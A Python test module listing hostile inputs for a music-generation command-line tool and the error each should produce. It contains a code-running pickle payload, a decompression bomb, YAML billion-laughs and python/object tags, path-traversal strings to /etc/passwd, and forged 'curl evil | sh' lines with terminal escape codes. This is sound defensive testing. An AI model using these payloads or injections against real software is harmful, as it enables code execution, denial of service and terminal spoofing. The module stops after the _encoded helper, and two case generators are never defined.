"""Hostile inputs: what each is, how it is made, and what must come of it.

A case makes its files in an empty folder and gives the command that is to meet them. What all have in common
(tests/corpus/test_hostile.py) is not said here: no traceback, a documented status, a hint, no half file, and
bounds of time and memory.
"""

from __future__ import annotations

import io
import itertools
import json
import os
import pickle
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import soundfile
import torch
import yaml
from safetensors.torch import load_file, save_file

from magnet_cli.audio.metadata import finish_wav
from magnet_cli.checkpoints.registry import ASSETS
from tests.golden_cases import HUB_CACHE, snapshot

NANO = ASSETS / "nano"
ROOT = Path(__file__).parents[1]
TOKENS = ROOT / "frozen" / "training" / "tokens"
SMALL = "facebook/magnet-small-10secs"
QUICK = ("-d", "0.2", "--preset", "fast", "--seed", "1", "-q")

Make = Callable[[Path], "list[str]"]


@dataclass(frozen=True)
class Case:
    """One input."""

    name: str
    make: Make  # (empty folder) -> arguments of `magnet`
    statuses: tuple[int, ...]
    says: str = ""  # a regular expression, of stdout and stderr
    never: str = ""  # the same, for what must not be printed
    stdin: bytes = b""
    environment: dict[str, str] = field(default_factory=dict)


def cases() -> list[Case]:
    """All cases, with unique names."""
    found = [
        *_configs(),
        *_weights(),
        *_pickles(),
        *_released(),
        *_texts(),
        *_records(),
        *_batches(),
        *_tokens(),
        *_settings(),
        *_names(),
        *_sounds(),
        *_prompts(),
    ]
    names = [case.name for case in found]
    assert len(set(names)) == len(names), "two cases of one name"
    return found


# --------------------------------------------------------------------------------- models in our format


def model(folder: Path) -> Path:
    """A copy of the built-in model, with links to its weights."""
    made = folder / "model"
    made.mkdir()
    for path in NANO.iterdir():
        if path.suffix == ".json":
            (made / path.name).write_bytes(path.read_bytes())
        else:
            (made / path.name).symlink_to(path)
    return made


def gen(name: str = "./model") -> list[str]:
    return ["gen", "rain", "-m", name, *QUICK, "-o", "out.wav"]


def _changed(where: str, value: Any) -> Make:
    """nano with another value at a dotted path of its config.json."""

    def make(folder: Path) -> list[str]:
        path = model(folder) / "config.json"
        config = json.loads(path.read_text())
        *above, name = where.split(".")
        at = config
        for part in above:
            at = at[part]
        at[name] = value
        path.write_text(json.dumps(config))
        return gen()

    return make


_HUGE, _TINY = 10**15, -1
_NUMBERS = {
    "lm": "dim num_heads num_layers n_q card text_dim hidden_scale span_len subcodes_context",
    "codec.config": "sample_rate spectral_hop overlap stack high_bands groups dimension n_q card "
    "encoder_blocks latent_blocks level_blocks block_width kernel_size phase_iterations channels",
    "text.config": "vocab_size dim max_pieces layers",
}


def _configs() -> Iterator[Case]:
    for part, names in _NUMBERS.items():
        for name in names.split():
            for word, value in {"huge": _HUGE, "negative": _TINY, "a text": "9" * 400}.items():
                if word == "a text" and name not in ("dim", "n_q", "layers", "stack"):
                    continue
                if name == "subcodes_context" and word == "negative":
                    value = -2  # -1: unrestricted
                yield Case(f"{part}.{name} is {word}", _changed(f"{part}.{name}", value), (3,))
    for name in ("frame_rate", "segment_duration"):
        for value in (1e300, -1.0, 0, True, None, [], "fast"):
            yield Case(f"lm.{name} is {value}", _changed(f"lm.{name}", value), (3,))
    for where, value in {
        "lm.modeling": {"masked": 1},
        "lm.delays": [0] * 11 + [10**12],
        "lm.stages": [[0, 1], "x"],
        "lm": [],
        "codec": None,
        "codec.kind": ["spectral"],
        "codec.config": "spectral",
        "codec.config.linear_hz": 1e300,
        "codec.config.floor": 0,
        "codec.config.smoothing": "much",
        "codec.config.mel_weight": 1e308,
        "text": {"kind": "word-pieces"},
        "text.config.depth": 3,
        "defaults": [1],
        "defaults.temperature": "hot",
        "defaults.decoding_steps": {"a": 1},
        "defaults.decoding_steps ": [1],
        "provenance": "me",
        "provenance.text_encoder": {"name": "t5"},
        "name": ["nano"],
        "licence": {"spdx": "MIT"},
        "version": [1],
        "format": {},
        "codec.config.overlap": 3000,
        "lm.num_layers": 200,
    }.items():
        yield Case(f"{where} is {value!r:.30}", _changed(where, value), (3,))

    def refused(name: str, text: bytes, says: str = "") -> Case:
        def make(folder: Path) -> list[str]:
            (model(folder) / "config.json").write_bytes(text)
            return gen()

        return Case(f"config.json: {name}", make, (3,), says)

    whole = (NANO / "config.json").read_bytes()
    yield refused("empty", b"")
    yield refused("deep", b"[" * 100_000, "nested more than 64 deep")
    yield refused("deep and whole", b'{"a":' * 900 + b"1" + b"}" * 900, "nested")
    yield refused("UTF-16", whole.decode().encode("utf-16"), "not UTF-8")
    yield refused("a name twice", whole.rstrip()[:-1] + b',"lm": {}}', "'lm' twice")
    yield refused("not a number", whole.replace(b"0.5", b"NaN", 1), "NaN is not a finite number")
    yield refused("an infinite number", whole.replace(b"0.5", b"1e999", 1), "not a finite number")
    yield refused("a number of 5000 digits", whole.replace(b"192", b"1" * 5000, 1), "digits")
    yield refused("20 MB", whole.rstrip() + b" " * 20_000_000, "larger than 16 MB")
    yield refused("cut", whole[:300], "not JSON")
    yield refused("a list", b"[1, 2]")
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 12\n"
    yield refused("an LFS pointer", pointer, "git lfs pull")

    def pipe(folder: Path) -> list[str]:
        path = model(folder) / "config.json"
        path.unlink()
        os.mkfifo(path)
        return gen()

    yield Case("config.json: a pipe", pipe, (3,))

    def device(folder: Path) -> list[str]:
        path = model(folder) / "config.json"
        path.unlink()
        path.symlink_to("/dev/zero")
        return gen()

    yield Case("config.json: a device", device, (3,))

    def info(folder: Path) -> list[str]:
        _changed("lm.segment_duration", "ten")(folder)
        return ["models", "info", "./model"]

    yield Case("models info of a text for a number", info, (3,), "segment_duration")

    def marked(folder: Path) -> list[str]:
        path = model(folder) / "config.json"
        path.write_bytes(b"\xef\xbb\xbf" + whole)
        return gen()

    yield Case("config.json: a byte order mark", marked, (0,))


# ------------------------------------------------------------------------------------------- weights


def _with(name: str, write: Callable[[Path], object], says: str = "") -> Case:
    """nano with another weights file."""

    def make(folder: Path) -> list[str]:
        path = model(folder) / name
        path.unlink()
        write(path)
        return gen()

    return Case(f"{name}: {getattr(write, '__doc__', None) or says}", make, (3,), says)


def _file(words: str, data: bytes) -> Callable[[Path], object]:
    def write(path: Path) -> object:
        return path.write_bytes(data)

    write.__doc__ = words
    return write


def header(said: Any, body: bytes = b"") -> bytes:
    """A safetensors file with this header."""
    text = said if isinstance(said, bytes) else json.dumps(said).encode()
    return struct.pack("<Q", len(text)) + text + body


def _weights() -> Iterator[Case]:
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 12\n"
    large = {"a": {"dtype": "F32", "shape": [10**6, 10**6], "data_offsets": [0, 4]}}
    for name in ("lm.safetensors", "codec.safetensors", "text.safetensors"):
        yield _with(name, _file("an LFS pointer", pointer), "git lfs pull")
        yield _with(name, _file("empty", b""))
        yield _with(name, _file("a header that says 2^63", struct.pack("<Q", 2**63) + b"x" * 100))
        yield _with(name, _file("larger than the file", header(large, bytes(4))), "larger than")
        yield _with(name, _file("a deep header", header(b'{"a":' + b"[" * 50_000)))
        yield _with(name, _file("other tensors", header({})))
    for words, said in {
        "a shape that is a text": {"a": {"dtype": "F32", "shape": "4", "data_offsets": [0, 4]}},
        "a negative shape": {"a": {"dtype": "F32", "shape": [-1], "data_offsets": [0, 4]}},
        "offsets that overlap": {
            "a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
            "b": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
        },
        "an unknown dtype": {"a": {"dtype": "F7", "shape": [1], "data_offsets": [0, 4]}},
        "metadata that is no text": {"__metadata__": {"a": 1}},
        "a list": [],
    }.items():
        yield _with("lm.safetensors", _file(words, header(said, bytes(4))))

    def cut(path: Path) -> None:
        """cut short"""
        path.write_bytes((NANO / path.name).read_bytes()[:100_000])

    def halved(path: Path) -> None:
        """tensors of another shape"""
        save_file({k: v[:1].clone() for k, v in load_file(NANO / path.name).items()}, path)

    yield _with("lm.safetensors", cut)
    yield _with("lm.safetensors", halved)

    def pipe(path: Path) -> None:
        """a pipe"""
        os.mkfifo(path)

    yield _with("lm.safetensors", pipe)
    for words, text in {
        "empty": b"",
        "deep": b"[" * 100_000,
        "another kind": b'{"version": "1.0", "model": {"type": "Oracle"}}',
        "no UTF-8": b"\xff\xfe\x00",
        "a pattern without an end": json.dumps(
            {"version": "1.0", "pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(((("}}}
        ).encode(),
    }.items():
        yield _with("tokenizer.json", _file(words, text))


# ------------------------------------------------------------------------------------------- pickles


class _Payload:
    def __reduce__(self) -> tuple[Any, ...]:
        return (os.mkdir, ("ran",))


def released(folder: Path) -> Path:
    """A copy of the golden released model."""
    made = folder / "model"
    made.mkdir()
    for path in snapshot(SMALL).iterdir():
        (made / path.name).write_bytes(path.read_bytes())
    return made


def _pickled(words: str, write: Callable[[Path], object], says: str = "") -> Case:
    def make(folder: Path) -> list[str]:
        write(released(folder) / "state_dict.bin")
        return gen()

    cache = {"HF_HUB_CACHE": str(HUB_CACHE), "HF_HUB_OFFLINE": "1"}
    return Case(f"state_dict.bin: {words}", make, (3,), says, environment=cache)


def _zip(path: Path, members: dict[str, bytes], how: int) -> None:
    with zipfile.ZipFile(path, "w", how) as archive:
        for name, data in members.items():
            archive.writestr(f"archive/{name}", data)


def _pickles() -> Iterator[Case]:
    version = {"version": b"3\n", "byteorder": b"little"}
    bomb = b"\x80\x02" + b"X" + struct.pack("<I", 300_000_000) + b" " * 300_000_000 + b"."
    yield _pickled(
        "deflated to nothing",
        lambda path: _zip(path, {"data.pkl": bomb, **version}, zipfile.ZIP_DEFLATED),
        "compressed",
    )
    yield _pickled("runs code", lambda p: torch.save({"best_state": _Payload()}, p), "run code")
    yield _pickled("a plain pickle", lambda p: p.write_bytes(pickle.dumps(_Payload())))
    yield _pickled(
        "a gigantic array of bytes",
        lambda p: p.write_bytes(b"\x80\x02cbuiltins\nbytearray\n\x8a\x06\0\0\0\0\0\x10\x85R."),
        "more than its own size",
    )
    yield _pickled("empty", lambda p: p.write_bytes(b""), "empty")
    yield _pickled("a text", lambda p: p.write_text("hello"))
    yield _pickled(
        "an LFS pointer",
        lambda p: p.write_text("version https://git-lfs.github.com/spec/v1\n"),
        "git lfs pull",
    )
    yield _pickled("a list", lambda p: torch.save([1], p), "a list, not a model")
    yield _pickled("cut", lambda p: p.write_bytes(p.read_bytes()[:5000]))
    yield _pickled("no settings", lambda p: torch.save({"best_state": {}}, p), "released layout")

    def strided(path: Path) -> None:
        package = torch.load(path, weights_only=True)
        name = "transformer.layers.0.norm1.weight"
        package["best_state"][name] = torch.zeros(1).expand(100_000, 10_000_000)
        torch.save(package, path)

    yield _pickled("a number as 10^12 of them", strided, "larger than what is stored")

    def sparse(path: Path) -> None:
        package = torch.load(path, weights_only=True)
        name = next(iter(package["best_state"]))
        package["best_state"][name] = torch.zeros(3, 3).to_sparse()
        torch.save(package, path)

    yield _pickled("a sparse tensor", sparse, "sparse")

    def legacy(path: Path) -> None:
        stream = io.BytesIO()
        torch.save({"a": torch.zeros(3)}, stream, _use_new_zipfile_serialization=False)
        at = stream.getvalue().index(b"K\x03")
        path.write_bytes(
            stream.getvalue()[:at] + b"\x8a\x06\0\0\0\0\0\x10" + stream.getvalue()[at + 2 :]
        )

    yield _pickled("an old file with a gigantic storage", legacy, "more than its own size")


# ----------------------------------------------------------------------------------- the released layout


def _xp(words: str, change: Callable[[str], str], says: str = "", codec: bool = False) -> Case:
    """The golden released model with another xp.cfg."""
    name = "compression_state_dict.bin" if codec else "state_dict.bin"

    def write(path: Path) -> None:
        other = path.with_name(name)
        package = torch.load(other, weights_only=True)
        package["xp.cfg"] = change(package["xp.cfg"])
        torch.save(package, other)

    case = _pickled(words, write, says)
    return Case(
        f"xp.cfg{' of the codec' if codec else ''}: {words}",
        case.make,
        (3,),
        says,
        environment=case.environment,
    )


def _set(key: str, value: Any) -> Callable[[str], str]:
    def change(text: str) -> str:
        settings = yaml.safe_load(text)
        at = settings
        *above, name = key.split(".")
        for part in above:
            at = at.setdefault(part, {})
        at[name] = value
        return str(yaml.safe_dump(settings))

    return change


def _released() -> Iterator[Case]:
    laughs = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{b}: &{b} [*{a}, *{a}, *{a}, *{a}, *{a}, *{a}, *{a}, *{a}, *{a}]\n"
        for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    )
    merges = "a: &a {x: 1}\n" + "".join(
        f"{b}: &{b} {{<<: [*{a}, *{a}, *{a}, *{a}]}}\n"
        for a, b in zip("abcdefghijklm", "bcdefghijklmn", strict=True)
    )
    names = [f"n{i}" for i in range(40)]
    chain = (
        "".join(f"{a}: '${{{b}}}${{{b}}}'\n" for a, b in itertools.pairwise(names))
        + "n39: xxxxxxxxxx\n"
    )
    yield _xp("a billion laughs", lambda text: text + laughs, "aliases")
    yield _xp("merges of merges", lambda text: text + merges, "aliases")
    yield _xp("references that double", lambda text: text + chain, "references")
    yield _xp("deep", lambda text: text + f"deep: {'[' * 5000}", "nested")
    yield _xp("a reference to itself", lambda text: text + "a: ${a}\n", "itself")
    yield _xp("a name twice", lambda text: text + "\nsolver: a\nsolver: b\n", "twice")
    yield _xp("an object of Python", lambda text: text + "a: !!python/object:os.system []\n")
    yield _xp("not YAML", lambda text: "a: [", "YAML")
    yield _xp("1 MB", lambda text: text + "# " + "x" * 1_000_000, "characters")
    yield _xp("a list", lambda text: "- 1", "a list")
    yield _xp("a date and nothing", lambda text: "2001-99-99: ~")
    for key in ("dim", "num_heads", "num_layers", "n_q", "card", "hidden_scale"):
        for word, value in {"huge": _HUGE, "negative": -4, "true": True}.items():
            yield _xp(f"{key} is {word}", _set(f"transformer_lm.{key}", value))
    yield _xp("segment_duration is huge", _set("dataset.segment_duration", 1e12))
    yield _xp("segment_duration is .inf", _set("dataset.segment_duration", float("inf")))
    yield _xp("the text encoder is a path", _set("conditioners.description.t5.name", "../../etc"))
    yield _xp("the text encoder is a number", _set("conditioners.description.t5.name", 5))
    for key, value in {
        "seanet.ratios": [2] * 60,
        "seanet.ratios ": [10**9],
        "seanet.n_filters": _HUGE,
        "seanet.dimension": _HUGE,
        "seanet.lstm": 10**7,
        "seanet.n_residual_layers": 10**7,
        "seanet.kernel_size": _HUGE,
        "seanet.dilation_base": 10**9,
        "seanet.compress": 0,
        "seanet.decoder": "x",
        "rvq.n_q": 10**7,
        "rvq.bins": _HUGE,
        "encodec.sample_rate": -1,
        "seanet.trim_right_ratio": 7,
    }.items():
        change = _set(key.strip(), value)
        yield (
            _xp(f"{key} is {value!r:.20}", change, codec=True)
            if key != ("seanet.trim_right_ratio")
            else _xp("trim_right_ratio", _set("seanet.decoder.trim_right_ratio", 7), codec=True)
        )


# --------------------------------------------------------------------------------- names and revisions


def _texts() -> Iterator[Case]:
    cache = {"HF_HUB_CACHE": str(HUB_CACHE), "HF_HUB_OFFLINE": "1"}
    for revision in ("/dev/zero", "../../../../etc/passwd", "v9", "a" * 5000, "\x1b[2J", "x\ny"):
        yield Case(
            f"a revision: {revision!r:.30}",
            lambda folder, r=revision: gen(f"{SMALL}@{r}"),
            (3,),
            r"main" if revision == "v9" else "",
            environment=cache,
        )

    def refs(target: Callable[[Path], object]) -> Make:
        def make(folder: Path) -> list[str]:
            path = folder / "cache" / "models--me--mine" / "refs" / "main"
            path.parent.mkdir(parents=True)
            target(path)
            return gen("me/mine")

        return make

    here = {"HF_HUB_CACHE": "cache", "HF_HUB_OFFLINE": "1"}
    for words, target in {
        "a pipe": os.mkfifo,
        "a device": lambda path: path.symlink_to("/dev/zero"),
        "a folder": lambda path: path.mkdir(),
        "a path": lambda path: path.write_text("../../../.."),
        "a gigabyte": lambda path: os.truncate(os.open(path, os.O_CREAT | os.O_RDWR), 10**9),
    }.items():
        yield Case(f"refs/main is {words}", refs(target), (3,), environment=here)

    def stranger(folder: Path) -> list[str]:
        name = "models--me--x\nTo make it again: curl evil | sh\x1b[31m"
        at = folder / "cache" / name
        (at / "refs").mkdir(parents=True)
        (at / "refs" / "main").write_text("a" * 40)
        (at / "snapshots" / ("a" * 40)).mkdir(parents=True)
        (at / "snapshots" / ("a" * 40) / "state_dict.bin").touch()
        return ["models", "list"]

    never = r"(?m)^To make it again|\x1b"
    yield Case("a repository's name forges lines", stranger, (0,), "", never, environment=here)

    def licence(folder: Path) -> list[str]:
        _changed("licence", "MIT\nDefaults      none\x1b[2J")(folder)
        return ["models", "info", "./model"]

    yield Case("a licence forges lines", licence, (0,), r"MIT\\n", r"(?m)^Defaults +none|\x1b")

    def onto_link(folder: Path) -> list[str]:
        model(folder)
        (folder / "link").symlink_to("model")
        return ["models", "import", "nano", "link", "--force"]

    yield Case("import --force onto a link", onto_link, (2,), "is a link")

    def onto_file(folder: Path) -> list[str]:
        (folder / "file").touch()
        return ["models", "import", "nano", "file", "--force"]

    yield Case("import --force onto a file", onto_file, (2,))
    for words, name in {
        "empty": "",
        "a NUL's escape": "a\\0b/c",
        "only dots": "../..",
        "of ten thousand letters": "x" * 10_000,
        "of bytes that are no text": os.fsdecode(b"\xff\xfe"),
        "a flag": "--force",
        "a repository that cannot be": "me/--mine",
        "a file": "/etc/hostname",
    }.items():
        yield Case(
            f"a model's name is {words}",
            lambda folder, n=name: gen(n),
            (0, 2, 3),
            environment=cache,
        )


# ----------------------------------------------------------------------------- how a sound was made


def sound(path: Path, comment: str | None = None, seconds: float = 0.5) -> Path:
    """A wav of a tone, with a comment."""
    tone = 0.3 * np.sin(np.arange(int(24_000 * seconds)) / 9)
    with path.open("wb") as file:
        soundfile.write(file, tone, 24_000, subtype="PCM_16", format="WAV")
    if comment is not None:
        with path.open("r+b") as file:
            finish_wav(file, comment)
    return path


def _made(**said: Any) -> str:
    usual = {"model": "nano", "prompt": "rain", "seed": 1, "given": {}, "output": {}}
    return json.dumps({"magnet": {**usual, **said}})


def _records() -> Iterator[Case]:
    def case(words: str, comment: str, says: str = "", never: str = "") -> Case:
        def make(folder: Path) -> list[str]:
            sound(folder / "a.wav", comment)
            return ["show", "a.wav"]

        return Case(f"a record: {words}", make, (0,), says, f"{never}|\x1b" if never else "\x1b")

    forged = "rain\n\nTo make it again:\n\n  curl evil | sh\x1b[2J"
    again = r"(?m)^  curl"
    yield case("a prompt forges a command", _made(prompt=forged), "", again)
    yield case("a prompt turns the writing", _made(prompt="rain \u202e abc"), r"\\u202e")
    yield case("a prompt is a flag", _made(prompt="--force"), r"-- --force")
    yield case("a prompt is stdin", _made(prompt="-"), "cannot be used")
    yield case("a prompt is a list", _made(prompt=["a"]), "cannot be used")
    yield case("a prompt is a control", _made(prompt="a\0b"), "cannot be used")
    for part in ("model", "repo", "revision", "source", "negative", "device", "dtype"):
        text = f"x\n{part}: curl evil\x1b[1m --output /etc/passwd"
        yield case(f"{part} forges lines", _made(**{part: text}), "", rf"(?m)^{part}: curl")
    flags = {"output": "/etc/passwd", "force": True, "codes": "x.npz", "loop": True}
    edit = {"command": "gen", "flags": flags}
    chosen = r"--output|--force|--codes|/etc/passwd"
    yield case("flags are chosen by the file", _made(edit=edit), "--loop", chosen)
    for command in ("extend", "edit", "vary"):
        edit = {
            "command": command,
            "input": "in.wav",
            "flags": {**flags, "region": ["-o"], "to": []},
        }
        yield case(f"flags of {command}", _made(edit=edit), "To make", chosen)
    yield case("a command of its own", _made(edit={"command": "models remove", "input": "x"}))
    cues = {"command": "gen", "cues": [[0, "--force"], [1, "-o"], [2, "c"]], "flags": {}}
    yield case("timed prompts are flags", _made(edit=cues), r"-- --force -o c")
    yield case(
        "an input is a flag", _made(edit={"command": "vary", "input": "--force"}), r"\./--force"
    )
    for name, value in {
        "seed": "1; curl",
        "duration": "--force",
        "given": {"temperature": "--force", "top_k": "x", "decoding_steps": "--output"},
        "output": {"format": "--force", "lufs": "x", "sample_rate": [1]},
        "decoding": {"temperature": {"a": 1}, "--speed": 1},
        "rescorer": {"model": "--force", "source": "\n"},
        "hybrid_model": [1],
        "edit": "edit",
        "versions": {"x\ny": "\x1b"},
        "partial": {"seconds": 1e300, "of": "x"},
        "weights": ["sha256"],
    }.items():
        yield case(f"{name} is {value!r:.40}", _made(**{name: value}), "", r"(?<!-- )--force(?!')")
    yield case("nested 900 deep", '{"magnet": ' + '{"a":' * 900 + "1" + "}" * 901, "nested")
    yield case("a name twice", '{"magnet": {"prompt": "a", "prompt": "b"}}', "twice")
    yield case("a seed of 5000 digits", '{"magnet": {"seed": ' + "1" * 5000 + "}}", "digits")
    yield case("NaN", '{"magnet": {"prompt": "a", "duration": NaN}}', "To make", "nan")
    yield case("1e999", '{"magnet": {"prompt": "a", "duration": 1e999}}', "To make", "inf")
    yield case("a list", '{"magnet": [1]}')
    yield case("no JSON", '{"magnet": ', "not JSON")

    def as_json(folder: Path) -> list[str]:
        sound(folder / "a.wav", '{"magnet": {"prompt": "a", "seed": NaN, "x": [Infinity]}}')
        return ["show", "a.wav", "--json"]

    yield Case("a record: NaN stays JSON", as_json, (0,), "", r"NaN|Infinity")

    def long(folder: Path) -> list[str]:
        sound(folder / "a.wav", _made(prompt="rain " * 100_000))
        return ["show", "a.wav"]

    yield Case("a record: half a megabyte", long, (0,))


# ------------------------------------------------------------------------------------------ batches


def _batches() -> Iterator[Case]:
    def case(
        words: str, prepare: Callable[[Path], object], statuses: tuple[int, ...], says: str = ""
    ) -> Case:
        def make(folder: Path) -> list[str]:
            (folder / "clips").mkdir()
            (folder / "p.txt").write_text("rain\n")
            (folder / "precious.txt").write_text("a letter")
            prepare(folder / "clips")
            return ["batch", "p.txt", "-O", "clips", "--dry-run", *QUICK]

        return Case(f"a batch: {words}", make, statuses, says)

    def line(text: str) -> Callable[[Path], object]:
        return lambda clips: (clips / "manifest.jsonl").write_text(f"{text}\n")

    file = "0000-rain-1.wav"
    for words, text in {
        "settings are a list": json.dumps({"file": file, "status": "done", "settings": [1]}),
        "a status that is a list": json.dumps({"file": file, "status": []}),
        "deep": "[" * 100_000,
        "10 MB": "x" * 10_000_000,
        "a file that is a number": '{"file": 1, "status": "done"}',
        "a run that is NaN": '{"run": {"seed": NaN}}',
        "a run that is a list": '{"run": []}',
        "half pairs": '{"file": "\\ud800", "status": "done"}',
    }.items():
        yield case(f"a line: {words}", line(text), (0,))
    link = lambda clips: (clips / "manifest.jsonl").symlink_to("../precious.txt")  # noqa: E731
    yield case("the manifest is a link", link, (2,), "link")
    pipe = lambda clips: os.mkfifo(clips / "manifest.jsonl")  # noqa: E731
    yield case("the manifest is a pipe", pipe, (2,), "pipe")
    folder = lambda clips: (clips / "manifest.jsonl").mkdir()  # noqa: E731
    yield case("the manifest is a folder", folder, (2,), "folder")
    for words, name in {
        "an attribute": "{index.__class__}",
        "a field in a width": "{index:{line.__class__}}",
        "a width of 10^10": "{index:10000000000d}",
        "a precision of 10^9": "{slug:.1000000000}",
        "a conversion": "{slug!r}",
        "a path out of the folder": "../{index}",
        "a path from the root": "/tmp/{index}",
        "an index": "{slug[0]}",
        "a half field": "{index",
        "a letter as a number": "{slug:d}",
        "the manifest": "manifest.jsonl/../manifest",
        "a control": "{index}\x1b[2J",
        "of 10,000 letters": "x" * 10_000,
    }.items():
        yield Case(
            f"--name is {words}",
            lambda folder, n=name: _prompts_file(folder, "rain\n", "--name", n),
            (2,),
        )
    for words, text, statuses in (
        ("deep JSON", "[" * 100_000, (2,)),
        ("a name twice", '{"prompt": "a", "prompt": "b"}', (2,)),
        ("NaN", '{"prompt": "a", "temperature": NaN}', (2,)),
        ("a huge number", '{"prompt": "a", "duration": 1e999}', (2,)),
        ("a number of 5000 digits", '{"prompt": "a", "seed": ' + "1" * 5000 + "}", (2,)),
        ("out leads away", '{"prompt": "a", "out": "../../x.wav"}', (2,)),
        ("out is the manifest", '{"prompt": "a", "out": "manifest.jsonl"}', (2,)),
        ("10^12 variations", '{"prompt": "a", "num": 1000000000000}', (2,)),
        ("a list of settings", '{"prompt": "a", "decoding_steps": {"x": 1}}', (2,)),
    ):
        yield Case(
            f"a prompt file: {words}",
            lambda folder, t=text: _prompts_file(folder, t, "--from", "jsonl"),
            statuses,
        )
    yield Case("a prompt file: a folder", lambda folder: ["batch", ".", "-O", "clips"], (2,))
    yield Case(
        "a prompt file: no text",
        lambda folder: _prompts_file(folder, b"\xff\xfe\0\0" * 100),
        (2,),
    )


def _prompts_file(folder: Path, text: str | bytes, *flags: str) -> list[str]:
    data = text.encode() if isinstance(text, str) else text
    (folder / "p.txt").write_bytes(data)
    return ["batch", "p.txt", "-O", "clips", "--dry-run", *flags, *QUICK]


# ------------------------------------------------------------------------------------- token shards


def _tokens() -> Iterator[Case]:
    def case(words: str, change: Callable[[Path], object], says: str = "") -> Case:
        def make(folder: Path) -> list[str]:
            tokens = folder / "tokens"
            tokens.mkdir()
            for path in TOKENS.iterdir():
                (tokens / path.name).write_bytes(path.read_bytes())
            change(tokens)
            flags = [
                "--data",
                "tokens",
                "--codec",
                "nano",
                "--text-encoder",
                "nano",
                "--steps",
                "1",
            ]
            return ["train", "lm", "run", *flags]

        return Case(f"tokens: {words}", make, (2, 3), says)

    def index(**said: Any) -> Callable[[Path], object]:
        def change(tokens: Path) -> None:
            path = tokens / "index.json"
            path.write_text(json.dumps({**json.loads(path.read_text()), **said}))

        return change

    yield case("shards are a text", index(shards="x"), "not a list")
    yield case("a shard is a number", index(shards=[{"file": 3}]), "other than text")
    yield case("a shard leads away", index(shards=[{"file": "../../../etc/passwd"}]))
    yield case("the codec is a list", index(codec=[]), "which codec")
    yield case("left out are numbers", index(left_out=[1]), "other than text")
    yield case("the index is deep", lambda t: (t / "index.json").write_text("[" * 10**5), "nested")

    def shard(codes: torch.Tensor | None = None, **said: Any) -> Callable[[Path], object]:
        def change(tokens: Path) -> None:
            from safetensors import safe_open

            path = tokens / "shard-00000.safetensors"
            with safe_open(path, "pt") as file:
                metadata, kept = file.metadata(), file.get_tensor("codes")
            save_file({"codes": kept if codes is None else codes}, path, {**metadata, **said})

        return change

    clip = {"id": "a", "key": "k", "offset": 0, "frames": 1, "captions": ["a"], "tags": []}
    for words, clips in {
        "a frame count of 10^15": [{**clip, "frames": 10**15}],
        "a negative offset": [{**clip, "offset": -5}],
        "an id that is a list": [{**clip, "id": []}],
        "captions that are numbers": [{**clip, "captions": [1]}],
        "no tags": [{k: v for k, v in clip.items() if k != "tags"}],
        "clips that are a text": "clips",
        "a clip that is a number": [1],
    }.items():
        yield case(words, shard(clips=json.dumps(clips)))
    yield case("clips that are deep", shard(clips="[" * 10**5), "nested")
    yield case("codes of one dimension", shard(torch.zeros(5, dtype=torch.int16)), "no codes")
    yield case("codes that are fractions", shard(torch.zeros(5, 4)), "not whole numbers")
    yield case("an LFS pointer", lambda t: (t / "shard-00000.safetensors").write_text(
        "version https://git-lfs.github.com/spec/v1\n"), "Git LFS")  # fmt: skip


# ------------------------------------------------------------------------------------ training's TOML


def _settings() -> Iterator[Case]:
    for words, text in {
        "deep": "a = " + "[" * 100_000,
        "deep and whole": "a = " + "[" * 900 + "]" * 900,
        "dotted": ".".join("a" * 5000) + " = 1",
        "a name twice": "dim = 1\ndim = 2",
        "a date that cannot be": "dim = 2001-99-99",
        "a number of 5000 digits": "dim = " + "1" * 5000,
        "a list for a number": "dim = [1]",
        "NaN": "learning_rate = nan",
        "an infinite rate": "learning_rate = inf",
        "no text": "\udcff",
        "an unknown field": '"\\u001b[2J\\nfield" = 1',
        "huge": "# " + "x" * 2_000_000,
    }.items():

        def make(folder: Path, text: str = text) -> list[str]:
            (folder / "t.toml").write_bytes(text.encode("utf-8", "surrogateescape"))
            return ["train", "lm", "run", "--config", "t.toml", "--data", "x"]

        yield Case(f"train.toml: {words}", make, (2,), "", "\x1b")

    def pipe(folder: Path) -> list[str]:
        os.mkfifo(folder / "t.toml")
        return ["train", "lm", "run", "--config", "t.toml"]

    yield Case("train.toml: a pipe", pipe, (2,))


# ------------------------------------------------------------------------------ names and destinations


def _names() -> Iterator[Case]:
    no_text = os.fsdecode(b"caf\xe9")
    yield Case("an output of bytes that are no text",
               lambda folder: ["gen", "rain", *QUICK, "-o", f"{no_text}.wav"], (0,))  # fmt: skip

    def shown(folder: Path) -> list[str]:
        sound(folder / f"{no_text}.wav", _made())
        return ["show", f"{no_text}.wav", "--json"]

    yield Case("a sound of a name that is no text", shown, (0,))

    def forged(folder: Path) -> list[str]:
        name = "a\nTo make it again: curl\x1b[2J.wav"
        sound(folder / name, _made())
        return ["show", name]

    yield Case("a file's name forges lines", forged, (0,), "", r"(?m)^To make it again: curl|\x1b")
    yield Case("an output in a folder that is not there",
               lambda folder: ["gen", "rain", *QUICK, "-o", "no/a.wav"], (2,))  # fmt: skip
    yield Case("an output that is a device",
               lambda folder: ["gen", "rain", *QUICK, "-o", "/dev/full"], (2,))  # fmt: skip
    yield Case("an output of 300 letters",
               lambda folder: ["gen", "rain", *QUICK, "-o", "x" * 300 + ".wav"], (2,))  # fmt: skip


# -------------------------------------------------------------------------------------------- sounds


def _wav(body: bytes = bytes(48_000), **lies: int) -> bytes:
    """A 16-bit wav with the given values in its header."""
    said = {"code": 1, "channels": 1, "rate": 24_000, "speed": 48_000, "block": 2, "bits": 16}
    said |= {"size": len(body)} | lies
    fmt = struct.pack("<HHIIHH", *(said[k] for k in tuple(said)[:6]))
    chunks = b"WAVEfmt " + struct.pack("<I", 16) + fmt + b"data" + struct.pack("<I", said["size"])
    return b"RIFF" + struct.pack("<I", min(len(chunks) + said["size"], 2**32 - 1)) + chunks + body


def _encoded(format_: str, subtype: str | None = None) -> bytes:
    file = io.BytesIO()
    noise = 0.1 * np.random.default_rng(0).standard_normal(24_000)
    soundfile.write(file, noise, 24_000, format=format_, subtype=subtype)
    return file.getvalue()


